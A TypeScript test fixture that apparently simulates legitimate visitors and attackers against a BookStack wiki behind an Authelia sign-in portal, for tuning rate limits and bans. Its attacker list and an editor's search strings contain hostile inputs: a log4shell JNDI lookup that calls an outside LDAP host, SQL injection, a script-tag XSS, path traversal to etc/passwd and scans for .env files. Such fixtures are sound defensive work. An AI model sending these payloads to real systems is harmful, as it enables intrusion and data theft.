import type { Kind, Visit, Visitor } from "./traffic";

/** Numbers that look random and are the same in each run: `0 <= next() < 1`. */
function chance(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    return state / 2 ** 31;
  };
}

function many<T>(count: number, make: (index: number) => T): T[] {
  return Array.from({ length: count }, (_, index) => make(index));
}

const at = (second: number, kind: Kind, path?: string, more: Partial<Visit> = {}): Visit => ({ second, kind, path, ...more });

const page = (index: number) => `/books/handbook-${index % 7}/page/chapter-${index}`;
const picture = (index: number, number: number) => `/uploads/images/gallery/2026-01/scaled-1680-/picture-${index}-${number}.png`;

/** A page with its pictures, and what it asks for afterwards. */
function reading(second: number, index: number, pictures = 4, user?: string): Visit[] {
  return [
    at(second, "page", page(index), { user }),
    ...many(pictures, (number) => at(second + 0.5, "image", picture(index, number), { user })),
    at(second + 1, "page", `/ajax/page/${index}`, { user }),
    at(second + 1, "script", `/dist/app.js?version=v26.5.1`),
  ];
}

/** What the portal's page asks for, each time that it is opened. */
function portal(second: number, target: string): Visit[] {
  return [
    at(second, "portal", `/?rd=https%3A%2F%2Fbookstack.wiki.localhost${encodeURIComponent(target)}&rm=GET`),
    at(second + 0.2, "portalScript", "/static/js/index.BDzRdmRF.js"),
    at(second + 0.2, "portalScript", "/static/css/index.DZzYcY2W.css"),
    at(second + 0.4, "portalState", "/api/configuration"),
    at(second + 0.4, "portalState", "/api/state"),
    at(second + 0.5, "portalScript", "/locales/en/portal"),
  ];
}

/** Signs in, with `mistakes` wrong passwords before the right one. */
function signingIn(second: number, mistakes = 0): Visit[] {
  return [
    at(second, "noSession", "/"),
    ...portal(second + 0.5, "/"),
    ...many(mistakes, (index) => at(second + 10 + index * 8, "wrongPassword")),
    at(second + 12 + mistakes * 8, "signIn"),
    at(second + 13 + mistakes * 8, "portalState", "/api/user/info"),
    at(second + 25 + mistakes * 8, "signIn", "/api/secondfactor/totp"),
    at(second + 26 + mistakes * 8, "portalState", "/api/oidc/authorization?client_id=bookstack", { method: "GET" }),
    at(second + 27 + mistakes * 8, "page", "/oidc/callback?code=authelia_ac_1&state=1"),
  ];
}

/** Search while typing: one request for every other letter. */
function typing(second: number, text: string, user?: string): Visit[] {
  const typed = many(Math.ceil(text.length / 2), (index) => text.slice(0, 2 * index + 2));
  return typed.map((term, index) => at(second + index * 0.4, "page", `/search/suggest?term=${encodeURIComponent(term)}`, { user }));
}

/** A browser opens 45 tabs again after the session ended; then its user signs in, and all of them load. */
const readerWithTabs: Visitor = {
  name: "a reader with 45 tabs",
  address: "192.0.2.1",
  visits: [
    ...many(45, (tab) => [at(tab * 0.05, "noSession", page(tab)), ...portal(1 + tab * 0.05, page(tab))]).flat(),
    ...signingIn(60),
    ...many(45, (tab) => reading(95 + tab * 0.1, tab)).flat(),
    ...many(80, (view) => reading(150 + view * 40, 100 + view)).flat(),
    // and an hour later again, by a cookie whose session is over
    ...many(45, (tab) => at(3500 + tab * 0.05, "staleSession", page(tab))),
  ],
};

/** Writes about attacks, looks for them, and loses the session over a draft. */
const editor: Visitor = {
  name: "an editor",
  address: "192.0.2.2",
  visits: [
    ...signingIn(0),
    ...many(60, (view) => reading(60 + view * 50, view)).flat(),
    ...many(90, (save) => at(60 + save * 30, "page", `/ajax/page/${save % 5}/save-draft`, { method: "PUT" })),
    ...many(20, (save) => at(90 + save * 120, "saved", page(save))),
    ...many(25, (look) => at(200 + look * 100, "page", `/images/gallery?page=${look}&search=&uploaded_to=7`)),
    ...typing(300, "<table class=wide><script>alert(1)</script>"),
    ...typing(400, "how to read /etc/passwd, /etc/hosts and /var/log/syslog"),
    ...typing(500, "${jndi:ldap://example.com/a} explained"),
    ...typing(600, "select * from information_schema.tables union all select sleep(5)"),
    ...many(40, (link) => at(700 + link * 2, "missing", `/books/admin-guide/page/gone-${link}`)),
    ...many(10, (link) => at(900 + link, "forbidden", `/images/gallery?${link}`)),
    ...many(40, (save) => at(3000 + save * 10, "noSessionXhr", "/ajax/page/3/save-draft")),
    ...many(20, (save) => at(3400 + save * 5, "staleSessionXhr", "/ajax/page/3/save-draft", { method: "POST" })),
  ],
};

const uploader: Visitor = {
  name: "an uploader",
  address: "192.0.2.3",
  visits: [
    ...signingIn(0),
    // two at a time
    ...many(300, (file) => at(60 + Math.floor(file / 2) * 0.8, "page", "/images/gallery", { method: "POST" })),
    ...many(60, (file) => at(400 + file, "page", "/attachments/upload", { method: "POST" })),
    ...many(60, (file) => at(400.5 + file, "page", `/attachments/get/page/${file}`)),
    ...many(300, (file) => at(600 + file * 0.01, "image", picture(1, file))),
    ...many(10, (file) => at(700 + file, "forbidden", "/attachments/upload")),
  ],
};

const exporter: Visitor = {
  name: "an API exporter of 1,000 pages",
  address: "192.0.2.4",
  agent: "python-requests/2.32.3",
  patient: true,
  visits: many(1000, (index) => {
    const kind: Kind = index % 25 === 7 ? "apiMissing" : index % 60 === 11 ? "apiForbidden" : "api";
    return at(index * 0.1, kind, `/api/pages/${index}/export/markdown`);
  }),
};

/** Sign-ins at nine, eight of them with two wrong passwords; reading; at half past all open one page with 60 pictures. */
function office(): Visitor {
  const random = chance(7);
  const people = many(30, (person) => {
    const arrival = 600 * random();
    const user = `user${person}`;
    const mistakes = person % 4 === 0 ? 2 : 0;
    const start = arrival + 60;
    const views = many(45, (view) => ({ second: start + view * 60 + 20 * random(), index: Math.floor(400 * random()) }));
    return {
      visits: [
        ...signingIn(arrival, mistakes),
        ...views.flatMap(({ second, index }) => reading(second, index, 3, user)),
        ...many(12, (save) => at(start + 30 * save, "page", `/ajax/page/${person}/save-draft`, { method: "PUT", user })),
        ...reading(1800 + 5 * random(), 7, 60, user),
      ],
      wrongPasswords: many(mistakes, (index) => ({ second: arrival + 10 + index * 8, user })),
    };
  });
  return {
    name: "an office of 30 behind one address",
    address: "192.0.2.5",
    visits: people.flatMap(({ visits }) => visits),
    wrongPasswords: people.flatMap(({ wrongPasswords }) => wrongPasswords),
  };
}

const probe: Visitor = {
  name: "a monitoring probe",
  address: "192.0.2.6",
  agent: "Uptime-Kuma/1.23.16",
  visits: many(180, (round) => [
    at(round * 20, "noSession", "/"),
    at(round * 20 + 0.2, "portal", "/?rd=https%3A%2F%2Fbookstack.wiki.localhost%2F&rm=GET"),
    at(round * 20 + 5, "noSessionXhr", "/status", { method: "HEAD" }),
    at(round * 20 + 6, "portalState", "/api/health"),
  ]).flat(),
};

const FEEDS = [
  "feed",
  "feed/",
  "rss",
  "rss.xml",
  "atom.xml",
  "feed.xml",
  "index.xml",
  "feeds/posts/default",
  "blog/feed",
  "feed.json",
  "?feed=rss2",
  "rss/news",
];

/** Looks for a feed in the usual places, every ten minutes. */
const feedReader: Visitor = {
  name: "a feed reader",
  address: "192.0.2.7",
  agent: "Mozilla/5.0 (compatible; Miniflux/2.2.4; +https://miniflux.app)",
  visits: many(6, (round) => [
    ...FEEDS.map((feed, index) => at(round * 600 + index * 0.2, "noSession", `/${feed}`)),
    ...many(3, (index) => at(round * 600 + 5 + index, "noSession", `/books/news-${index}`)),
    at(round * 600 + 9, "noSession", "/favicon.ico"),
  ]).flat(),
};

/** Reads by a token, shows pictures that need a session, and goes on with a token that has expired. */
const app: Visitor = {
  name: "a mobile app",
  address: "192.0.2.8",
  agent: "Dart/3.5 (dart:io)",
  visits: [
    ...many(25, (start) => [
      ...["shelves", "books", "chapters", "pages", "search?query=a", "users/1", "image-gallery", "tags"].map((list) => at(start * 120, "api", `/api/${list}`)),
      ...many(10, (index) => at(start * 120 + 2 + index, "api", `/api/pages/${start * 10 + index}`)),
      ...many(30, (number) => at(start * 120 + 3, "noSessionImage", picture(start, number))),
      at(start * 120 + 20, "apiInvalid"),
      at(start * 120 + 21, "apiInvalid"),
    ]).flat(),
    ...many(60, (index) => at(3000 + index * 5, "apiForbidden", `/api/pages/${index}`, { method: index % 2 ? "GET" : "POST" })),
  ],
};

/** Asks three times for what does not come, gives up half-way, and sends what was written in the tunnel all at once. */
const phone: Visitor = {
  name: "a phone with a bad network",
  address: "192.0.2.9",
  agent: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
  visits: [
    ...signingIn(0),
    ...many(60, (view) => [
      at(60 + view * 50, "aborted", page(view)),
      at(63 + view * 50, "aborted", page(view)),
      ...reading(66 + view * 50, view),
      ...many(8, (number) => at(67 + view * 50, "aborted", picture(view, number))),
    ]).flat(),
    ...many(40, (save) => at(1000 + save * 0.05, "page", "/ajax/page/3/save-draft", { method: "PUT" })),
    ...many(30, (save) => at(3300 + save * 0.1, "noSessionXhr", "/ajax/page/3/save-draft")),
    ...many(10, (tab) => at(3310 + tab, "noSession", page(tab))),
  ],
};

const mistyper: Visitor = {
  name: "a person who mistypes the password twice",
  address: "192.0.2.10",
  visits: [...signingIn(0, 2), ...many(60, (view) => reading(90 + view * 50, view)).flat()],
  wrongPasswords: [
    { second: 10, user: "carol" },
    { second: 18, user: "carol" },
  ],
};

/** A link checker: other sites link to the wiki, also with old paths; it requests each link twice, follows redirects to the portal, and honors Retry-After. */
const linkChecker: Visitor = {
  name: "a link checker",
  address: "192.0.2.11",
  agent: "lychee/0.18.1",
  patient: true,
  visits: many(400, (link) => {
    const path = link % 20 === 3 ? `/index.php/old/${link}.html` : link % 9 === 0 ? `/attachments/${link}` : page(link);
    return [
      at(link * 0.4, "noSessionXhr", path, { method: "HEAD" }),
      at(link * 0.4 + 0.1, "noSession", path),
      at(link * 0.4 + 0.3, "portal", `/?rd=https%3A%2F%2Fbookstack.wiki.localhost${encodeURIComponent(path)}&rm=GET`),
    ];
  }).flat(),
};

const searchEngine: Visitor = {
  name: "a search engine that was invited",
  address: "192.0.2.12",
  agent: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/137.0.0.0 Safari/537.36",
  visits: [
    ...many(6, (round) => at(round * 600, "noSession", "/robots.txt")),
    ...many(6, (round) => at(round * 600 + 1, "noSession", "/sitemap.xml")),
    ...many(3000, (index) => at(2 + index * 1.15, "noSession", index % 40 === 0 ? `/search?term=${index}` : page(index))),
  ],
};

/** All legitimate users of the wiki, and their programs. */
export const HONEST_PEOPLE: readonly Visitor[] = [
  readerWithTabs,
  editor,
  uploader,
  exporter,
  office(),
  probe,
  feedReader,
  app,
  phone,
  mistyper,
  linkChecker,
  searchEngine,
];

/** Those who use all that the edge allows, to the last request, for ten minutes. */
export const WITHIN_THE_LIMITS: readonly Visitor[] = [
  {
    name: "a client without a session at the rate limit",
    address: "192.0.2.21",
    visits: [...many(49, (index) => at(0, "noSession", page(index))), ...many(980, (index) => at(1 + index * 0.61, "noSession", page(index)))],
  },
  {
    name: "a signed-in user at the rate limit",
    address: "192.0.2.22",
    visits: [...many(149, (index) => at(0, "page", page(index))), ...many(1960, (index) => at(1 + index * 0.305, "page", page(index)))],
  },
  {
    name: "an API program at the rate limit",
    address: "192.0.2.23",
    visits: [...many(99, (index) => at(0, "api", `/api/pages/${index}`)), ...many(1950, (index) => at(1 + index * 0.305, "api", `/api/pages/${index}`))],
  },
];

const probing = (path: (index: number) => string, kind: Kind = "noSession", count = 41, gap = 0.3) =>
  many(count, (index) => at(index * gap, kind, path(index)));

/** Those who have to be banned, or nothing above would be worth anything. */
export const ATTACKERS: readonly Visitor[] = [
  { name: "a search for files", address: "203.0.113.101", visits: probing((index) => `/backup-${index}.php`) },
  { name: "a search for files by a forged session", address: "203.0.113.102", visits: probing((index) => `/backup-${index}.php`, "staleSession") },
  { name: "a search for known files", address: "203.0.113.103", visits: probing((index) => `/old-${index}/.env`) },
  {
    name: "a guesser of passwords",
    address: "203.0.113.104",
    visits: probing(() => "/api/firstfactor", "wrongPassword", 9, 1),
    wrongPasswords: many(9, (index) => ({ second: index, user: "alice" })),
  },
  { name: "a guesser of tokens", address: "203.0.113.105", visits: probing((index) => `/api/books/${index}`, "apiWrongToken", 25) },
  {
    name: "a guesser of tokens who lets no answer arrive",
    address: "203.0.113.113",
    visits: probing((index) => `/api/books/${index}`, "apiWrongTokenUnread", 25),
  },
  { name: "a search below the API", address: "203.0.113.106", visits: probing((index) => `/api/unknown-${index}`, "apiUnknown", 30) },
  {
    name: "sqlmap",
    address: "203.0.113.107",
    agent: "sqlmap/1.8.4#stable (https://sqlmap.org)",
    visits: probing((index) => `/search?term=${index}%27%20AND%20${index}%3D${index}`),
  },
  { name: "log4shell", address: "203.0.113.108", visits: probing((index) => `/search?term=\${jndi:ldap://203.0.113.9/${index}}`) },
  { name: "a search for paths", address: "203.0.113.109", visits: probing((index) => `/books/${"../".repeat(index)}etc/passwd`) },
  { name: "a crawler that ignores 429", address: "203.0.113.110", visits: probing((index) => `/books/b/page/p-${index}`, "noSession", 900, 0.1) },
  { name: "a flood", address: "203.0.113.111", visits: probing(() => "/", "noSession", 600, 0.02) },
  { name: "a search for host names", address: "203.0.113.112", visits: probing((index) => `/${index}`, "unknownHost") },
];
